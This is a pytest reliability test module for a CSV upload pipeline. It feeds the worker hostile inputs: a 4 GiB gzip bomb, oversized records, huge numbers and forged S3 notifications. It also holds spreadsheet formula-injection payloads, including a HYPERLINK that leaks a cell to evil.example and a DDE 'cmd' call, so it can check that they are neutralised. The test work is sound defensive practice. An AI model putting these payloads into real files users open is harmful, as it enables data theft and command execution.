"""Uploads under hostile shapes, through the real path: POST /uploads, the object in moto's S3,
S3's notification on the UploadQueue, and the UploadWorker (the real poller and handler) in its
own process, held to an emulated Lambda's timeout and memory (SIGKILL past either).

Each group of files goes in next to ordinary CSV files. Every upload must end `succeeded` or
`failed` (with a reason) in its FIRST delivery: never retried, never `dead`, never left
`running`; a succeeded one has exactly one results/<id>/summary.json; the worker's peak RSS
stays under 256 MB whatever the shape. The groups are separate tests, so that the fix of one
case of issue 8 makes one of them pass:

- hostile-shapes (case 1): 1,024 rows x 100,000 columns (gzip), one quoted record of 8 million
  `"x\\n",` fields (gzip), one 5 MB field;
- gzip-bomb (case 2): a gzip that expands far past what the worker can read in its timeout;
- huge-number (case 8): numbers of 309 and 400 digits;
- formula-cells (case 14): cells that a spreadsheet would run; cleaned.csv must neutralise them;
- foreign-bucket (case 9): an S3 notification for another bucket naming a user's upload id;
- second-object (case 13): a second object for the same upload id: no second processing, no
  mixed results.
"""

import csv
import gzip
import io
import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote_plus
from uuid import UUID

import boto3
import pytest
from fastapi.testclient import TestClient
from moto.s3.models import S3Backend

from api.main import app
from offload.models import TaskRecord, TaskState
from tests.reliability.harness import (
    WorkerPool,
    event_source,
    fast_queues,
    purge,
    queue_depth,
)
from tests.reliability.support import print_table
from tests.support import REGION, AwsStack, installed, load_event

pytestmark = pytest.mark.timeout(150)

UPLOAD_TIMEOUT = 5  # seconds: the emulated UploadWorker's timeout (the template's is 300)
UPLOAD_MEMORY_MB = 512  # the emulated worker is SIGKILLed above this (the template gives 1,024)
PEAK_RSS_MB = 256  # the bar: the worker's peak RSS, whatever the file
RECEIVES = 3
VISIBILITY = 3
SETTLE_SECONDS = 45
FOREIGN_BUCKET = "someone-elses-bucket"


# ---------------------------------------------------------------- the files
@dataclass
class Upload:
    name: str  # what the file is, for the messages and the figures
    filename: str
    content_type: str
    body: bytes
    outcome: str = "final"  # "succeeded", "failed", or "final" (either, with a reason if failed)
    upload_id: UUID | None = None
    key: str | None = None
    status: TaskRecord | None = None


def _gzip_members(member: bytes, count: int, head: bytes = b"") -> bytes:
    """`count` copies of one gzip member (a valid multi-member gzip), after `head` (gzipped)."""
    return (gzip.compress(head, 9) if head else b"") + gzip.compress(member, 9) * count


def wide_rows() -> Upload:
    columns = 100_000
    header = ",".join(f"c{i}" for i in range(columns)).encode() + b"\n"
    row = b",".join(b"0" for _ in range(columns)) + b"\n"
    body = _gzip_members(row, 1_024, head=header)
    return Upload("1,024 rows x 100,000 columns (gzip)", "wide.csv.gz", "application/gzip", body)


def one_huge_record() -> Upload:
    body = gzip.compress(b"a,b\n" + b'"x\n",' * 8_000_000 + b"\n", 6)
    return Upload(
        'one record of 8,000,000 "x\\n" fields (gzip)', "record.csv.gz", "application/gzip", body
    )


def one_huge_field() -> Upload:
    body = gzip.compress(b'a,b\n1,"' + b"y" * 5_000_000 + b'"\n2,3\n', 6)
    return Upload("one 5 MB field (gzip)", "field.csv.gz", "application/gzip", body)


def gzip_bomb() -> Upload:
    block = b"".join(b"%d,alpha,beta,gamma,2024-01-02\n" % (i % 10) for i in range(32_768))
    body = _gzip_members(block, 4 * 1024 * 1024 * 1024 // len(block), head=b"id,a,b,c,day\n")
    return Upload("gzip expanding to 4 GiB", "bomb.csv.gz", "application/gzip", body)


def huge_numbers() -> list[Upload]:
    digits = "9" * 309
    one = f"id,value\n1,{digits}\n2,5\n".encode()
    column = "id,value\n" + "".join(f"{i},-{'7' * 400}\n" for i in range(50))
    return [
        Upload("a 309-digit number", "number.csv", "text/csv", one),
        Upload("a column of 400-digit numbers", "numbers.csv", "text/csv", column.encode()),
    ]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",
]


def formula_cells() -> Upload:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")  # so that a cell with CR is quoted
    writer.writerow(["id", "note", "amount"])
    for index, formula in enumerate(FORMULAS):
        writer.writerow([index, formula, ["-12.5", "+7", "3"][index % 3]])
    body = buffer.getvalue().encode()
    return Upload(
        "cells starting with = + - @ tab CR", "formulas.csv", "text/csv", body, "succeeded"
    )


def ordinary_files() -> list[Upload]:
    orders = (
        b"Order ID, Customer ,Amount,Shipped\r\n1, ann ,10.5,2024-01-02\r\n"
        b'2,bob,4,2024-01-03\r\n\r\n1,ann,10.5,2024-01-02\r\n3,"carl, jr",,2024-01-05\r\n'
    )
    tsv = b"city\tpeople\nRoma\t2800000\nOslo\t700000\n"
    rows = "".join(f"{i},item-{i},{i * 1.5}\n" for i in range(2_000))
    return [
        Upload("ordinary CSV", "orders.csv", "text/csv", orders, "succeeded"),
        Upload("ordinary TSV", "cities.tsv", "text/tab-separated-values", tsv, "succeeded"),
        Upload(
            "ordinary gzip CSV, 2,000 rows",
            "items.csv.gz",
            "application/gzip",
            gzip.compress(f"id,name,price\n{rows}".encode()),
            "succeeded",
        ),
    ]


# ---------------------------------------------------------------- the path in
class UploadPath:
    """POST /uploads (the API), then the object in the upload bucket (moto S3 notifies the
    UploadQueue as S3 does: the template's notification configuration is applied)."""

    def __init__(self, aws: AwsStack) -> None:
        self.bucket = aws.environment["OFFLOAD_UPLOAD_BUCKET"]
        self.queue = aws.environment["OFFLOAD_UPLOAD_QUEUE_URL"]
        self.dlq = aws.environment["OFFLOAD_UPLOAD_DLQ_URL"]
        self.s3 = boto3.client("s3", region_name=REGION)
        self.api = TestClient(app)

    def create(self, upload: Upload) -> None:
        """Ask the API for the upload (its id and key, the task `queued`)."""
        response = self.api.post(
            "/uploads",
            json={
                "filename": upload.filename,
                "content_type": upload.content_type,
                "size": len(upload.body),
            },
        )
        assert response.status_code == 201, response.text
        created = response.json()
        upload.upload_id, upload.key = UUID(created["upload_id"]), created["key"]

    def put(self, upload: Upload) -> None:
        self.s3.put_object(
            Bucket=self.bucket, Key=upload.key, Body=upload.body, ContentType=upload.content_type
        )

    def keys(self, prefix: str, bucket: str | None = None) -> list[str]:
        listed = self.s3.list_objects_v2(Bucket=bucket or self.bucket, Prefix=prefix)
        return sorted(o["Key"] for o in listed.get("Contents", []))

    def get(self, key: str) -> bytes:
        return self.s3.get_object(Bucket=self.bucket, Key=key)["Body"].read()

    def clear(self) -> None:
        for key in self.keys(""):
            self.s3.delete_object(Bucket=self.bucket, Key=key)
        purge(self.queue, self.dlq)


@pytest.fixture(scope="module")
def pool() -> Iterator[WorkerPool]:
    """One UploadWorker process (and moto's server) for the module's tests."""
    workers = WorkerPool()
    try:
        yield workers
    finally:
        workers.close()


@pytest.fixture
def path(aws: AwsStack, monkeypatch: pytest.MonkeyPatch) -> Iterator[UploadPath]:
    with fast_queues(aws, monkeypatch, ["UploadQueue"], receives=RECEIVES, visibility=VISIBILITY):
        helper = UploadPath(aws)
        helper.clear()  # the s3:TestEvent of the notification set-up, and any leftovers
        try:
            yield helper
        finally:
            helper.clear()


# ---------------------------------------------------------------- the run
@dataclass
class Run:
    uploads: list[Upload]
    peak_rss_mb: float = 0.0
    invocations: int = 0
    killed: str | None = None
    seconds: float = 0.0
    worker_output: list[str] = field(default_factory=list)


def _violation(upload: Upload) -> str | None:
    """What already breaks "final in the first delivery" for this upload, if anything."""
    status = upload.status
    if status is None:
        return None
    if status.attempts > 1:
        return f"{upload.name}: delivered {status.attempts} times ({status.state}: {status.error})"
    if status.state in (TaskState.RETRYING, TaskState.DEAD):
        return f"{upload.name}: {status.state} ({status.error})"
    return None


def run_uploads(
    aws: AwsStack,
    pool: WorkerPool,
    path: UploadPath,
    uploads: list[Upload],
    before_put: Callable[[list[Upload]], None] | None = None,
) -> Run:
    """Create and put every upload while one UploadWorker process runs; wait until each is
    final, failing at once on anything that breaks the first-delivery rule."""
    started = time.monotonic()
    run = Run(uploads)
    problem: str | None = None
    source = event_source(aws, "UploadWorker", timeout=UPLOAD_TIMEOUT, memory=UPLOAD_MEMORY_MB)
    worker = pool.worker(source)
    try:
        for upload in uploads:
            path.create(upload)
        if before_put is not None:
            before_put(uploads)
        for upload in uploads:
            path.put(upload)
        deadline = time.monotonic() + SETTLE_SECONDS
        while time.monotonic() < deadline:
            for upload in uploads:
                upload.status = installed().tasks.get(upload.upload_id)  # type: ignore[arg-type]
            problems = [p for u in uploads if (p := _violation(u))]
            if worker.killed:
                problems.insert(0, f"the emulated Lambda killed the worker: {worker.killed}")
            if problems:
                problem = "; ".join(problems)
                break
            if all(u.status and u.status.state.is_final for u in uploads):
                break
            time.sleep(0.25)
        else:
            pending = {u.name: u.status.state if u.status else None for u in uploads}
            problem = f"not final after {SETTLE_SECONDS}s: {pending}"
        run.peak_rss_mb = worker.peak_rss_mb()
        run.invocations = worker.invocations
        run.killed = worker.killed
        run.worker_output = worker.other_output[-10:]
    finally:
        if problem is None and not all(u.status and u.status.state.is_final for u in uploads):
            problem = "interrupted"
        if problem:
            pool.discard(source.function)  # it may still be busy with this run's files
    run.seconds = time.monotonic() - started
    _print_figures(run)
    if problem:
        pytest.fail(problem)
    return run


def _print_figures(run: Run) -> None:
    rows: list[tuple[str, object]] = []
    for upload in run.uploads:
        status = upload.status
        if status is None:
            rows.append((upload.name, "no status"))
            continue
        detail = status.error or ""
        if status.state is TaskState.SUCCEEDED and isinstance(status.result, dict):
            detail = f"{status.result.get('rows', {}).get('written')} rows written"
        rows.append(
            (upload.name, f"{status.state} after {status.attempts} delivery(ies); {detail[:90]}")
        )
    rows += [
        ("worker peak RSS (VmHWM)", f"{run.peak_rss_mb:.0f} MB (bar {PEAK_RSS_MB} MB)"),
        ("worker invocations", run.invocations),
        ("worker killed by the emulated Lambda", run.killed or "no"),
        ("run time", f"{run.seconds:.1f}s"),
    ]
    print_table(f"Uploads under faults: {len(run.uploads)} files", rows)


def assert_each_final_once(path: UploadPath, run: Run) -> None:
    for upload in run.uploads:
        status = upload.status
        assert status is not None, upload.name
        assert status.state in (TaskState.SUCCEEDED, TaskState.FAILED), (upload.name, status)
        assert status.attempts == 1, (upload.name, status.attempts)
        if upload.outcome != "final":
            assert status.state == upload.outcome, (upload.name, status.state, status.error)
        results = path.keys(f"results/{upload.upload_id}/")
        if status.state is TaskState.SUCCEEDED:
            summaries = [k for k in results if k.endswith("/summary.json")]
            assert len(summaries) == 1, f"{upload.name}: results/{upload.upload_id}/ is {results}"
        else:
            assert status.error and status.error.strip(), f"{upload.name}: failed without a reason"
    assert run.peak_rss_mb < PEAK_RSS_MB, f"worker peak RSS {run.peak_rss_mb:.0f} MB"
    # The poller deletes a handled message after the handler returned, so just after the last
    # status went final the queue may still count it in flight: give the delete a moment.
    deadline = time.monotonic() + 10
    while queue_depth(path.queue) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert queue_depth(path.queue) == 0, "the UploadQueue still holds messages"
    assert queue_depth(path.dlq) == 0, "an upload reached the UploadDeadLetterQueue"


# ---------------------------------------------------------------- the groups
def test_hostile_shapes_end_in_their_first_delivery_in_bounded_memory(
    aws: AwsStack, pool: WorkerPool, path: UploadPath
) -> None:
    # Given wide rows, one huge record and one huge field, next to ordinary files
    uploads = [wide_rows(), one_huge_record(), one_huge_field(), *ordinary_files()]

    # When they are uploaded and the UploadWorker takes them from the queue
    run = run_uploads(aws, pool, path, uploads)

    # Then each ends succeeded or failed with a reason, at once, and memory stayed bounded
    assert_each_final_once(path, run)


def test_a_gzip_bomb_fails_once_within_the_function_timeout(
    aws: AwsStack, pool: WorkerPool, path: UploadPath
) -> None:
    # Given a gzip that expands to more than the worker can read before its timeout
    uploads = [gzip_bomb(), *ordinary_files()]

    # When the UploadWorker (timeout UPLOAD_TIMEOUT s) takes it
    run = run_uploads(aws, pool, path, uploads)

    # Then it fails for good in its first delivery, with a reason; it is never timed out
    assert_each_final_once(path, run)
    assert uploads[0].status is not None and uploads[0].status.state is TaskState.FAILED


def test_huge_numbers_are_summarised_or_reported_once(
    aws: AwsStack, pool: WorkerPool, path: UploadPath
) -> None:
    uploads = [*huge_numbers(), *ordinary_files()]

    run = run_uploads(aws, pool, path, uploads)

    assert_each_final_once(path, run)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_formula_cells_are_neutralised_in_cleaned_csv(
    aws: AwsStack, pool: WorkerPool, path: UploadPath
) -> None:
    upload = formula_cells()
    uploads = [upload, *ordinary_files()]

    run = run_uploads(aws, pool, path, uploads)

    assert_each_final_once(path, run)
    for each in uploads:
        cleaned = path.get(f"results/{each.upload_id}/cleaned.csv").decode()
        rows = list(csv.reader(io.StringIO(cleaned, newline="")))
        for row in rows[1:]:
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert _is_number(cell), f"{each.name}: {cell!r} reaches cleaned.csv as is"
    cleaned = path.get(f"results/{upload.upload_id}/cleaned.csv").decode()
    notes = [row[1] for row in list(csv.reader(io.StringIO(cleaned, newline="")))[1:]]
    assert len(notes) == len(FORMULAS), notes
    assert all(note.startswith("'") for note in notes), notes


def test_a_notification_for_another_bucket_never_touches_an_upload(
    aws: AwsStack, pool: WorkerPool, path: UploadPath
) -> None:
    # Given a user's upload, and in someone else's bucket an object under its upload id
    victim = ordinary_files()[0]
    s3 = boto3.client("s3", region_name=REGION)
    s3.create_bucket(Bucket=FOREIGN_BUCKET)
    foreign_body = b"x,y\n" + b"".join(b"%d,foreign\n" % i for i in range(7))

    def foreign_notification_first(uploads: list[Upload]) -> None:
        # S3's notification for that object reaches the UploadQueue before the user's file
        key = f"uploads/{victim.upload_id}/{victim.filename}"
        s3.put_object(Bucket=FOREIGN_BUCKET, Key=key, Body=foreign_body)
        boto3.client("sqs", region_name=REGION).send_message(
            QueueUrl=path.queue, MessageBody=json.dumps(_s3_notification(FOREIGN_BUCKET, key, 47))
        )

    try:
        # When the worker takes both notifications
        run = run_uploads(aws, pool, path, [victim], before_put=foreign_notification_first)

        # Then the upload is its own file's, and nothing was written to the other bucket
        assert_each_final_once(path, run)
        assert victim.status is not None and victim.status.state is TaskState.SUCCEEDED
        summary = json.loads(path.get(f"results/{victim.upload_id}/summary.json"))
        assert summary["rows"]["read"] == 5, summary["rows"]
        assert path.keys("results/", bucket=FOREIGN_BUCKET) == []
    finally:
        for key in path.keys("", bucket=FOREIGN_BUCKET):
            s3.delete_object(Bucket=FOREIGN_BUCKET, Key=key)
        s3.delete_bucket(Bucket=FOREIGN_BUCKET)


def _s3_notification(bucket: str, key: str, size: int) -> dict[str, Any]:
    """An S3 ObjectCreated notification body, exactly as S3 sends it to SQS (events/)."""
    record = load_event("sqs-upload-worker.json")["Records"][0]
    notification: dict[str, Any] = json.loads(record["body"])
    s3 = notification["Records"][0]["s3"]
    s3["bucket"]["name"], s3["bucket"]["arn"] = bucket, f"arn:aws:s3:::{bucket}"
    s3["object"]["key"], s3["object"]["size"] = quote_plus(key, safe="/"), size
    return notification


def test_a_second_object_for_an_upload_neither_runs_again_nor_mixes_results(
    aws: AwsStack, pool: WorkerPool, path: UploadPath, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given an upload whose form is used twice: another file lands under the same upload id,
    # just before the declared one
    first = ordinary_files()[0]
    second_body = b"x,y\n" + b"".join(b"%d,second\n" % i for i in range(60))
    writes: list[str] = []
    original = S3Backend.put_object

    def put_object(self: S3Backend, bucket_name: str, key_name: str, *args: Any, **kw: Any) -> Any:
        writes.append(key_name)  # moto's S3, for the worker process too (through the server)
        return original(self, bucket_name, key_name, *args, **kw)

    monkeypatch.setattr(S3Backend, "put_object", put_object)

    def another_file_first(uploads: list[Upload]) -> None:
        path.s3.put_object(
            Bucket=path.bucket, Key=f"uploads/{first.upload_id}/second.csv", Body=second_body
        )

    # When both objects' notifications reach the worker
    run = run_uploads(aws, pool, path, [first], before_put=another_file_first)
    time.sleep(1)  # the second notification has had time to be taken

    # Then the upload was processed once, and its results are one file's, whole
    assert_each_final_once(path, run)
    summary_key = f"results/{first.upload_id}/summary.json"
    assert writes.count(summary_key) == 1, f"summary.json written {writes.count(summary_key)} times"
    summary = json.loads(path.get(summary_key))
    cleaned = path.get(f"results/{first.upload_id}/cleaned.csv").decode()
    data_rows = list(csv.reader(io.StringIO(cleaned, newline="")))[1:]
    assert summary["rows"]["written"] == len(data_rows), (summary["rows"], len(data_rows))
    assert summary["rows"]["read"] in (5, 60), summary["rows"]
